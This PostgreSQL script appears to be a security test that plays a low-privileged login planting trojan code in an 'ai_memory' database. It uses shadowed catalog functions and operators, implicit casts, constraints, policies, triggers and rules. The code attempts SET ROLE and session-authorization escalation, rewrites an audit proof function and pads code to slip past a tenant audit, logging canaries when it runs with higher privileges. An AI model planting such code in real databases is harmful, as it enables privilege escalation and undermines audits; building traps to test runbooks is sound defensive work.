-- Code that an attacker with the service's login (alice) can plant in the database for the operator. Run this file as
-- that login. If the code runs with more privileges than alice's, it writes "TRAP <what> as <role>" into the server's
-- log. Nothing else would last: a row vanishes with its transaction, and a read-only transaction cannot use a sequence.
-- Functions that write to tenant tables name customer_id, because the audit refuses functions that do not.

CREATE FUNCTION public.trap_note(what pg_catalog.text) RETURNS pg_catalog.void LANGUAGE plpgsql AS $$
DECLARE
  note pg_catalog.text := pg_catalog.concat(what, ' as ', current_user, ';');
  noted pg_catalog.text := pg_catalog.concat(pg_catalog.current_setting('trap.noted', true));
BEGIN
  -- Write each note only once, because code that runs for every row of the catalogs would fill the disk.
  IF current_user OPERATOR(pg_catalog.<>) 'alice'::pg_catalog.name AND pg_catalog.strpos(noted, note) OPERATOR(pg_catalog.=) 0 THEN
    RAISE LOG 'TRAP % as %', what, current_user;
    PERFORM pg_catalog.set_config('trap.noted', pg_catalog.concat(noted, note), false);
  END IF;
END
$$;

-- Try every statement that could gain privileges, for any caller, and skip refused statements.
CREATE FUNCTION public.trap_climb(what pg_catalog.text) RETURNS pg_catalog.void LANGUAGE plpgsql AS $$
DECLARE
  way pg_catalog.text;
BEGIN
  PERFORM public.trap_note(what);
  -- A session of alice has nothing to gain. Code that runs for thousands of rows need not try this for each row.
  IF session_user OPERATOR(pg_catalog.=) 'alice'::pg_catalog.name
    OR pg_catalog.length(pg_catalog.current_setting('trap.climbed', true)) OPERATOR(pg_catalog.>) 20 THEN
    RETURN;
  END IF;
  PERFORM pg_catalog.set_config('trap.climbed', pg_catalog.concat(pg_catalog.current_setting('trap.climbed', true), '.'), true);
  FOREACH way IN ARRAY ARRAY[
    'RESET ROLE', 'SET ROLE NONE', 'SET LOCAL ROLE postgres', 'RESET SESSION AUTHORIZATION',
    'SET SESSION AUTHORIZATION DEFAULT', 'SET LOCAL SESSION AUTHORIZATION postgres',
    $way$SELECT pg_catalog.set_config('role', 'none', false)$way$,
    $way$SELECT pg_catalog.set_config('role', 'postgres', true)$way$,
    $way$SELECT pg_catalog.set_config('session_authorization', 'default', false)$way$,
    $way$UPDATE pg_catalog.pg_settings SET setting = 'none' WHERE name = 'role'$way$
  ] LOOP
    BEGIN
      EXECUTE way;
      IF current_user OPERATOR(pg_catalog.<>) 'alice'::pg_catalog.name THEN
        RAISE LOG 'TRAP % by % as %', what, way, current_user;
      END IF;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  -- alice owns the proof's function: make the function run with the privileges of its next caller.
  BEGIN
    EXECUTE 'ALTER FUNCTION pg_temp.tenancy_attempts(pg_catalog.jsonb) SECURITY INVOKER SET search_path = public, pg_catalog';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE 'CREATE OR REPLACE FUNCTION pg_temp.tenancy_attempts(given pg_catalog.jsonb) RETURNS pg_catalog.jsonb LANGUAGE plpgsql AS '
      '''BEGIN PERFORM public.trap_note(''''the function of the proof''''); RETURN ''''[]''''; END''';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  -- Change settings that this session or the runbook reads later.
  PERFORM pg_catalog.set_config('search_path', 'public, pg_catalog', false),
          pg_catalog.set_config('tenancy_runbook.findings', '[]', false),
          pg_catalog.set_config('tenancy_runbook.input', '{}', false);
EXCEPTION WHEN OTHERS THEN NULL;
END
$$;

-- Functions with names of PostgreSQL's functions. The database's search path finds these functions first.
DO $shadows$
DECLARE
  f record;
  arguments text;
BEGIN
  FOR f IN
    SELECT p.oid, p.proname, p.proretset, p.pronargs, format_type(p.prorettype, NULL) AS returns, oidvectortypes(p.proargtypes) AS types
    FROM pg_proc p
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.provariadic = 0 AND NOT p.proretset
      AND p.proname IN ('lower', 'length', 'split_part', 'substr', 'strpos', 'replace', 'starts_with', 'current_setting', 'set_config',
        'obj_description', 'shobj_description', 'pg_get_expr', 'pg_get_indexdef', 'pg_get_constraintdef', 'pg_get_functiondef',
        'pg_get_triggerdef', 'pg_get_userbyid', 'format_type', 'pg_describe_object', 'to_regclass', 'to_regprocedure',
        'has_table_privilege', 'has_schema_privilege', 'pg_has_role', 'hashtextextended', 'pg_advisory_xact_lock', 'clock_timestamp',
        'transaction_timestamp', 'current_database', 'pg_is_in_recovery', 'pg_relation_filenode', 'pg_stat_get_xact_tuples_inserted',
        'pg_database_size', 'pg_table_size', 'pg_total_relation_size', 'pg_export_snapshot', 'txid_current_snapshot',
        'txid_snapshot_xmin', 'quote_ident', 'quote_literal', 'pg_terminate_backend', 'pg_stat_clear_snapshot', 'query_to_xml')
      AND NOT EXISTS (SELECT FROM unnest(p.proargtypes) AS t JOIN pg_type y ON y.oid = t WHERE y.typtype = 'p')
  LOOP
    arguments := (SELECT string_agg('$' || n, ', ') FROM generate_series(1, f.pronargs) AS n);
    EXECUTE format(
      'CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', f.proname, f.types, f.returns,
      format('BEGIN PERFORM public.trap_note(%L); %s; END', 'function ' || f.proname,
        CASE WHEN f.returns = 'void' THEN format('PERFORM pg_catalog.%I(%s)', f.proname, arguments)
             ELSE format('RETURN pg_catalog.%I(%s)', f.proname, arguments) END));
  END LOOP;
END
$shadows$;
-- If PostgreSQL's function accepts any type, a function with the exact types matches better, whatever the search path.
CREATE FUNCTION public.format(pg_catalog.text, pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.text LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('function format'); RETURN pg_catalog.format($1, $2, $3); END $$;
CREATE FUNCTION public.format(pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.text LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('function format'); RETURN pg_catalog.format($1, $2); END $$;
CREATE FUNCTION public.format(pg_catalog.text, pg_catalog.name, pg_catalog.name) RETURNS pg_catalog.text LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('function format'); RETURN pg_catalog.format($1, $2, $3); END $$;
CREATE FUNCTION public.to_jsonb(pg_catalog.pg_database) RETURNS pg_catalog.jsonb LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('function to_jsonb'); RETURN pg_catalog.to_jsonb($1); END $$;

-- Operators with names of PostgreSQL's operators. The search path finds these operators first.
DO $operators$
DECLARE
  o record;
BEGIN
  FOR o IN
    SELECT * FROM (VALUES
      ('=', 'int4', 'int4', 'bool'), ('<>', 'int4', 'int4', 'bool'), ('=', 'text', 'text', 'bool'), ('<>', 'text', 'text', 'bool'),
      ('=', 'oid', 'oid', 'bool'), ('<>', 'oid', 'oid', 'bool'), ('=', 'name', 'text', 'bool'), ('=', 'name', 'name', 'bool'),
      ('||', 'text', 'text', 'text'), ('~*', 'text', 'text', 'bool'), ('~', 'text', 'text', 'bool'), ('-', 'int8', 'int8', 'int8'),
      ('>', 'int4', 'int4', 'bool'), ('+', 'int4', 'int4', 'int4'), ('<', 'int4', 'int4', 'bool')
    ) AS v (sign, lefts, rights, returns)
  LOOP
    EXECUTE format('CREATE FUNCTION public.%I(pg_catalog.%I, pg_catalog.%I) RETURNS pg_catalog.%I LANGUAGE plpgsql AS %L',
      'trap_operator ' || o.sign, o.lefts, o.rights, o.returns,
      format('BEGIN PERFORM public.trap_note(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END', 'operator ' || o.sign, o.sign));
    EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = pg_catalog.%I, RIGHTARG = pg_catalog.%I, FUNCTION = public.%I)',
      o.sign, o.lefts, o.rights, 'trap_operator ' || o.sign);
  END LOOP;
END
$operators$;

-- Types that alice owns: a domain with a CHECK, and types with implicit casts.
CREATE FUNCTION public.trap_is_fine(pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('domain'); RETURN true; END $$;
CREATE DOMAIN public.trap_words AS pg_catalog.text CHECK (public.trap_is_fine(VALUE));
CREATE TYPE public.trap_pair AS (one pg_catalog.text);
CREATE FUNCTION public.trap_pair_as_text(public.trap_pair) RETURNS pg_catalog.text LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('cast'); RETURN 'pair'; END $$;
CREATE CAST (public.trap_pair AS pg_catalog.text) WITH FUNCTION public.trap_pair_as_text(public.trap_pair) AS IMPLICIT;
CREATE TYPE public.trap_mood AS ENUM ('fair', 'foul');
CREATE FUNCTION public.trap_mood_as_text(public.trap_mood) RETURNS pg_catalog.text LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('cast of an enum'); RETURN 'mood'; END $$;
CREATE CAST (public.trap_mood AS pg_catalog.text) WITH FUNCTION public.trap_mood_as_text(public.trap_mood) AS IMPLICIT;
ALTER TABLE public.memories ADD COLUMN trap_words public.trap_words DEFAULT 'words', ADD COLUMN trap_pair public.trap_pair,
  ADD COLUMN trap_mood public.trap_mood DEFAULT 'fair';
UPDATE public.memories SET trap_pair = ROW('one');

-- Expressions that are evaluated for a row: CHECK, generated column, default, expressions and predicates of indexes.
CREATE FUNCTION public.trap_check(pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('CHECK'); RETURN true; END $$;
ALTER TABLE public.caller_profiles ADD CONSTRAINT trap_check CHECK (public.trap_check(preferred_name));
CREATE FUNCTION public.trap_generated(pg_catalog.text) RETURNS pg_catalog.text IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('generated column'); RETURN $1; END $$;
ALTER TABLE public.call_summaries ADD COLUMN trap_generated pg_catalog.text GENERATED ALWAYS AS (public.trap_generated(sentiment)) STORED;
CREATE FUNCTION public.trap_now() RETURNS pg_catalog.timestamp LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('default'); RETURN pg_catalog.now(); END $$;
ALTER TABLE public.personality_metrics ALTER created_at SET DEFAULT public.trap_now();
CREATE FUNCTION public.trap_indexed(pg_catalog.text) RETURNS pg_catalog.text IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('index'); RETURN $1; END $$;
CREATE INDEX trap_index ON public.memories (public.trap_indexed(source)) WHERE public.trap_indexed(scope) IS NOT NULL;

-- A restrictive policy, which runs for every reader to which it applies.
CREATE FUNCTION public.trap_shows() RETURNS pg_catalog.bool LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('policy'); RETURN true; END $$;
CREATE POLICY trap_policy ON public.memories AS RESTRICTIVE USING (public.trap_shows());

-- Triggers: for each row and statement, ALWAYS, deferred, and deferred again at each run.
CREATE FUNCTION public.trap_trigger() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM public.trap_climb(pg_catalog.concat('trigger ', TG_NAME));
  IF TG_OP OPERATOR(pg_catalog.=) 'DELETE' THEN RETURN OLD; END IF;
  RETURN NEW;
END
$$;
CREATE TRIGGER trap_row BEFORE INSERT OR UPDATE OR DELETE ON public.memories FOR EACH ROW EXECUTE FUNCTION public.trap_trigger();
CREATE TRIGGER trap_always AFTER INSERT OR UPDATE OR DELETE ON public.caller_profiles FOR EACH ROW EXECUTE FUNCTION public.trap_trigger();
ALTER TABLE public.caller_profiles ENABLE ALWAYS TRIGGER trap_always;
CREATE TRIGGER trap_statement AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON public.call_summaries
  FOR EACH STATEMENT EXECUTE FUNCTION public.trap_trigger();
CREATE CONSTRAINT TRIGGER trap_deferred AFTER INSERT OR UPDATE OR DELETE ON public.memories
  DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.trap_trigger();
CREATE FUNCTION public.trap_again() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM public.trap_climb('trigger that is deferred again');
  -- The audit accepts a function that names the tenant column.
  PERFORM 'customer_id';
  -- Twice is enough: the trigger is deferred to the end of the transaction.
  SET CONSTRAINTS ALL DEFERRED;
  IF coalesce(nullif(pg_catalog.current_setting('trap.again', true), ''), '0') OPERATOR(pg_catalog.=) '0' THEN
    PERFORM pg_catalog.set_config('trap.again', '1', true);
    UPDATE public.call_summaries SET summary = summary WHERE call_id OPERATOR(pg_catalog.=) NEW.call_id;
    PERFORM pg_catalog.set_config('trap.again', '0', true);
  END IF;
  RETURN NULL;
END
$$;
CREATE CONSTRAINT TRIGGER trap_again AFTER INSERT OR UPDATE ON public.call_summaries
  DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.trap_again();

-- A rule on a table that is not a tenant table, because the audit refuses rules on tenant tables.
CREATE TABLE public.trap_ruled (id pg_catalog.int4);
CREATE FUNCTION public.trap_rule() RETURNS pg_catalog.bool LANGUAGE plpgsql AS
  $$ BEGIN PERFORM public.trap_climb('rule'); RETURN true; END $$;
CREATE RULE trap_rule AS ON INSERT TO public.trap_ruled DO ALSO SELECT public.trap_rule();

-- Settings of the database and of the role.
ALTER DATABASE ai_memory SET search_path = public, pg_catalog;
ALTER DATABASE ai_memory SET idle_in_transaction_session_timeout = '2s';
ALTER DATABASE ai_memory SET standard_conforming_strings = off;
ALTER DATABASE ai_memory SET statement_timeout = '20s';
ALTER DATABASE ai_memory SET default_transaction_isolation = 'serializable';
ALTER DATABASE ai_memory SET bytea_output = 'escape';
ALTER ROLE alice SET search_path = public, pg_catalog;
